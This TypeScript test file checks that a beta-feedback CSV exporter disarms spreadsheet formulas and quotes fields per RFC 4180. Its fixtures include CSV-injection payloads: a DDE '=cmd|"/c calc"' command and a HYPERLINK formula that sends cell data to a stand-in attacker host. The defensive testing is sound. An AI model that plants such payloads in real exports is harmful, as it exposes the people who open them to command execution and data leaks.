import { describe, expect, it } from 'vitest';
import type { BetaFeedbackRecord } from '@shared/schemas/beta';
import { parseCsv } from '../test/csv';
import { csvField, csvText, feedbackCsv, neutraliseFormula } from './feedback-csv';

describe('formula neutralisation', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\t=HYPERLINK("http://evil")', '\'\t=HYPERLINK("http://evil")'],
    ['\r=1', "'\r=1"],
    // Full-width and small forms that NFKC folds into a formula starter (issue 24).
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0BSUM(A1:A9)', "'\uFF0BSUM(A1:A9)"],
    ['\uFF0D2+3', "'\uFF0D2+3"],
    ['\uFF20cmd', "'\uFF20cmd"],
    ['\uFE66HYPERLINK("http://evil")', '\'\uFE66HYPERLINK("http://evil")'],
    ['\uFE62A1', "'\uFE62A1"],
    ['\u207A1', "'\u207A1"],
    // The minus sign, and a starter behind leading spaces or invisible characters.
    ['\u22121+1', "'\u22121+1"],
    [' =1+1', "' =1+1"],
    ['\u200B=1+1', "'\u200B=1+1"],
    ['\uFEFF@cmd', "'\uFEFF@cmd"],
    ['\n=1', "'\n=1"],
    ['\uFF41\uFF1Db', '\uFF41\uFF1Db'],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });
});

describe('RFC 4180 fields', () => {
  it.each([
    ['simple', 'simple'],
    ['a,b', '"a,b"'],
    ['he said "hi"', '"he said ""hi"""'],
    ['line1\nline2', '"line1\nline2"'],
    ['line1\r\nline2', '"line1\r\nline2"'],
    ['=cmd|"/c calc"!A0', `"'=cmd|""/c calc""!A0"`],
    [5, '5'],
    [null, ''],
  ] as const)('%j → %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('ends every line, the last included, with CRLF', () => {
    expect(
      csvText([
        ['a', 'b'],
        ['c', null],
      ]),
    ).toBe('a,b\r\nc,\r\n');
  });
});

describe('feedbackCsv', () => {
  const hostile: BetaFeedbackRecord = {
    id: 1,
    feedbackId: 'fb-hostile-1',
    userId: null,
    rating: 3,
    featuresArray: ['calculator', 'glossary'],
    comments: '=HYPERLINK("http://evil.example/?x="&A1,"Click")\nsecond line, with "quotes"',
    email: '@attacker@example.com',
    paymentLikelihood: '2.99-4.99',
    pricingThoughts: '-1+1; +2',
    mostValuableFeature: 'dca-calculator',
    biggestFriction: 'nothing-major',
    betaVersion: '1.0.0-beta',
    userAgent: 'Mozilla/5.0, "quoted"',
    deployment: 'web',
    ipAddress: '203.0.113.9',
    submittedAt: '2026-11-25T09:00:00.000Z',
  };

  it('writes a header and one row per submission that read back exactly, formulas disarmed', () => {
    const csv = feedbackCsv([hostile]);
    expect(csv.startsWith('\uFEFFsubmittedAt,feedbackId,')).toBe(true);
    const [header, row, ...rest] = parseCsv(csv.slice(1));
    expect(rest).toEqual([]);
    expect(header).toEqual([
      'submittedAt',
      'feedbackId',
      'userId',
      'rating',
      'email',
      'paymentLikelihood',
      'mostValuableFeature',
      'biggestFriction',
      'featuresArray',
      'comments',
      'pricingThoughts',
      'betaVersion',
      'deployment',
      'userAgent',
      'ipAddress',
    ]);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('comments')).toBe(`'${hostile.comments}`);
    expect(cell('email')).toBe("'@attacker@example.com");
    expect(cell('pricingThoughts')).toBe("'-1+1; +2");
    expect(cell('userAgent')).toBe('Mozilla/5.0, "quoted"');
    expect(cell('featuresArray')).toBe('calculator; glossary');
    expect(cell('userId')).toBe('');
    expect(cell('rating')).toBe('3');
    // No cell a spreadsheet would evaluate.
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes only the header when there is no submission', () => {
    expect(parseCsv(feedbackCsv([]).slice(1))).toHaveLength(1);
  });
});
